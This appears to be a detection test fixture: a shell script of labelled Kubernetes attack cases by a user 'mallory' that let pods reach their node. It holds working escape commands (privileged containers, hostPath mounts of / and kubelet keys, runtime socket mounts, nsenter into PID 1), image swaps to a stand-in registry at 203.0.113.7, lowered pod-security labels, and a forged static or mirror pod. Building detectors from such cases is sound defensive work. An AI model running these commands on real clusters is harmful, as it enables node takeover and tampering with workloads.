# Pods that reach their node. 01-looking-around.sh says how to read this.

#: privileged | D046 | mallory
kubectl run privileged -n shop --image=alpine --privileged -- sleep 3600
#: privileged-second | D046 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: calico-node, namespace: shop}
spec:
  containers:
  - {name: calico, image: "quay.io/calico/node:v3.29.0"}
  - {name: helper, image: "alpine:3.20", securityContext: {privileged: true}}
YAML
#: privileged-init | D047 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: init, namespace: shop}
spec:
  initContainers: [{name: init, image: "alpine:3.20", command: [sh, -c, "nsenter -t 1 -m sh"], securityContext: {privileged: true}}]
  containers: [{name: app, image: "registry.example.com/shop/front:2.1.0"}]
YAML
#: privileged-deployment | D048 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apps/v1
kind: Deployment
metadata: {name: agent, namespace: shop}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec: {containers: [{name: agent, image: "alpine:3.20", securityContext: {privileged: true}}]}
YAML
#: privileged-daemonset | D048 D041 D062 | mallory
kubectl apply --server-side -f - <<'YAML'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-agent, namespace: kube-system}
spec:
  selector: {matchLabels: {app: node-agent}}
  template:
    metadata: {labels: {app: node-agent}}
    spec:
      hostPID: true
      hostNetwork: true
      containers: [{name: agent, image: "alpine:3.20", securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /host}]}]
      volumes: [{name: root, hostPath: {path: /}}]
YAML
#: takeover-daemonset | D062 D048 D041 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-tuning, namespace: monitoring}
spec:
  selector: {matchLabels: {app: node-tuning}}
  template:
    metadata: {labels: {app: node-tuning}}
    spec:
      hostPID: true
      containers: [{name: pause, image: "registry.k8s.io/pause:3.10"}, {name: tune, image: "alpine:3.20", securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /host}]}]
      volumes: [{name: root, hostPath: {path: /.}}]
YAML
#: privileged-cronjob | D048 D040 | mallory
kubectl apply -f - <<'YAML'
apiVersion: batch/v1
kind: CronJob
metadata: {name: sync, namespace: shop}
spec:
  schedule: "*/30 * * * *"
  jobTemplate: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: sync, image: "alpine:3.20", securityContext: {privileged: true}}]}}}}
YAML
#: privileged-job | D048 D040 | mallory
kubectl create -f - <<'YAML'
apiVersion: batch/v1
kind: Job
metadata: {generateName: once-, namespace: shop}
spec: {template: {spec: {restartPolicy: Never, hostPID: true, containers: [{name: once, image: "alpine:3.20", securityContext: {privileged: true}}]}}}
YAML
#: privileged-replicaset | D048 | mallory
kubectl create -f - <<'YAML'
apiVersion: apps/v1
kind: ReplicaSet
metadata: {name: quiet, namespace: shop}
spec:
  selector: {matchLabels: {app: quiet}}
  template:
    metadata: {labels: {app: quiet}}
    spec: {initContainers: [{name: init, image: "alpine:3.20", securityContext: {privileged: true}}], containers: [{name: app, image: "registry.example.com/shop/front:2.1.0"}]}
YAML
#: privileged-statefulset | D048 | mallory
kubectl create -f - <<'YAML'
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: cache, namespace: shop}
spec:
  serviceName: cache
  selector: {matchLabels: {app: cache}}
  template:
    metadata: {labels: {app: cache}}
    spec: {containers: [{name: cache, image: "alpine:3.20", securityContext: {privileged: true}}]}
YAML
#: json-patch-privileged | D048 D043 | mallory
kubectl patch deployment front -n shop --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]'
#: json-patch-privileged-deep | D048 | mallory
kubectl patch deployment cart -n shop --type=json -p '[{"op":"remove","path":"/spec/template/spec/securityContext"},{"op":"add","path":"/spec/template/spec/hostPID","value":true}]'
#: sidecar | D043 | mallory
kubectl patch deployment checkout -n shop -p '{"spec":{"template":{"spec":{"containers":[{"name":"metrics","image":"203.0.113.7:5000/tap:1","securityContext":{"capabilities":{"add":["NET_RAW"]}}}]}}}}'
#: image-changed | D044 D035 | mallory
kubectl set image deployment/checkout -n shop checkout=203.0.113.7:5000/checkout:1.4.2
#: delivered-changed | D045 | mallory
kubectl patch deployment front -n shop --type=merge -p '{"spec":{"template":{"spec":{"containers":[{"name":"front","image":"203.0.113.7:5000/front:2"}]}}}}'
#: host-path-root | D056 D057 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: root, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /}}]
YAML
#: host-path-etc | D056 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: etc, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /etc/}}]
YAML
#: host-path-slashes | D056 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: slashes, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: scratch, emptyDir: {}}, {name: v, hostPath: {path: //etc///kubernetes}}]
YAML
#: host-path-kubelet | D056 | mallory
kubectl create -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: kubelet, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /var/lib/kubelet/pki}}]
YAML
#: docker-socket | D058 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: docker, namespace: shop}
spec:
  containers: [{name: app, image: "docker:27-cli", volumeMounts: [{name: v, mountPath: /var/run/docker.sock}]}]
  volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}]
YAML
#: containerd-socket | D058 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apps/v1
kind: Deployment
metadata: {name: containerd, namespace: shop}
spec:
  selector: {matchLabels: {app: containerd}}
  template:
    metadata: {labels: {app: containerd}}
    spec:
      containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /run/containerd/containerd.sock}]}]
      volumes: [{name: v, hostPath: {path: /run/containerd/containerd.sock, type: Socket}}]
YAML
#: host-network | D052 | mallory
kubectl run host-network -n shop --image=alpine --overrides='{"spec":{"hostNetwork":true}}' -- tcpdump
#: host-pid | D053 | mallory
kubectl run host-pid -n shop --image=alpine --overrides='{"spec":{"hostPID":true}}' -- nsenter -t 1 -m sh
#: host-ipc | D054 | mallory
kubectl run host-ipc -n shop --image=alpine --overrides='{"spec":{"hostIPC":true}}' -- ipcs
#: host-port | D055 | mallory
kubectl run host-port -n shop --image=alpine --port=6443 --overrides='{"spec":{"containers":[{"name":"host-port","image":"alpine","ports":[{"containerPort":6443,"hostPort":6443}]}]}}'
#: capabilities | D051 | mallory
kubectl run capabilities -n shop --image=alpine --overrides='{"spec":{"containers":[{"name":"a","image":"alpine"},{"name":"b","image":"alpine","securityContext":{"capabilities":{"add":["SYS_ADMIN","SYS_PTRACE"]}}}]}}'
#: capabilities-all | D051 | mallory
kubectl run capabilities-all -n shop --image=alpine --overrides='{"spec":{"initContainers":[{"name":"init","image":"alpine","securityContext":{"capabilities":{"drop":["KILL"],"add":["ALL"]}}}]}}'
#: root-user | D050 D049 | mallory
kubectl run root-user -n shop --image=alpine --overrides='{"spec":{"containers":[{"name":"root-user","image":"alpine","securityContext":{"runAsUser":0,"allowPrivilegeEscalation":true}}]}}'
#: share-processes | D060 | mallory
kubectl run share-processes -n shop --image=alpine --overrides='{"spec":{"shareProcessNamespace":true}}'
#: unmasked-proc | D061 | mallory
kubectl run unmasked -n shop --image=alpine --overrides='{"spec":{"hostUsers":false,"containers":[{"name":"unmasked","image":"alpine","securityContext":{"procMount":"Unmasked"}}]}}'
#: unconfined | D061 | mallory
kubectl run unconfined -n shop --image=alpine --overrides='{"spec":{"securityContext":{"seccompProfile":{"type":"Unconfined"},"appArmorProfile":{"type":"Unconfined"}}}}'
#: all-at-once | D062 D046 D053 D056 | mallory
kubectl run everything -n shop --image=alpine --overrides='{"spec":{"nodeName":"worker-1","hostPID":true,"hostNetwork":true,"containers":[{"name":"everything","image":"alpine","stdin":true,"securityContext":{"privileged":true},"volumeMounts":[{"name":"host","mountPath":"/host"}]}],"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}'
#: host-process | D063 | mallory
kubectl run host-process -n shop --image=mcr.microsoft.com/windows/nanoserver:ltsc2022 --overrides='{"spec":{"hostNetwork":true,"nodeSelector":{"kubernetes.io/os":"windows"},"securityContext":{"windowsOptions":{"hostProcess":true,"runAsUserName":"NT AUTHORITY\\SYSTEM"}}}}'
#: warned-of-by-pod-security | D064 D046 | mallory
kubectl run refused -n payments --image=alpine --privileged || true
#: pod-security-lowered | D064 | mallory
kubectl label namespace payments pod-security.kubernetes.io/enforce=privileged --overwrite
#: node-chosen | D070 | mallory
kubectl run node-chosen -n shop --image=alpine --overrides='{"spec":{"nodeSelector":{"node-role.kubernetes.io/control-plane":""},"tolerations":[{"operator":"Exists"}]}}'
#: bound-by-hand | D071 | mallory
kubectl run by-hand -n shop --image=alpine --overrides='{"spec":{"schedulerName":"nobody"}}'
kubectl create --raw /api/v1/namespaces/shop/pods/by-hand/binding -f - <<'JSON'
{"apiVersion":"v1","kind":"Binding","metadata":{"name":"by-hand"},"target":{"apiVersion":"v1","kind":"Node","name":"worker-1"}}
JSON
#: mirror-pod | D068 | worker-2-kubelet
cat >"$KEYS/static-pod.new" <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: etcd-backup, namespace: kube-system}
spec:
  hostNetwork: true
  containers: [{name: etcd, image: "203.0.113.7:5000/etcd:3", securityContext: {privileged: true}, volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /}}]
YAML
mv "$KEYS/static-pod.new" "$KEYS/worker-2/manifests/static-pod.yaml"
until kubectl get pod -n kube-system etcd-backup-worker-2; do sleep 0.3; done
#: mirror-pod-by-key | D068 | worker-1
uid=$(kubectl get node worker-1 -o 'jsonpath={.metadata.uid}')
kubectl create -f - <<YAML
apiVersion: v1
kind: Pod
metadata:
  name: kube-apiserver-worker-1
  namespace: kube-system
  annotations: {kubernetes.io/config.mirror: 0a1b2c3d, kubernetes.io/config.source: file}
  ownerReferences: [{apiVersion: v1, kind: Node, name: worker-1, uid: $uid, controller: true}]
spec: {nodeName: worker-1, hostNetwork: true, containers: [{name: kube-apiserver, image: "203.0.113.7:5000/kube-apiserver:v1.35.0"}]}
YAML
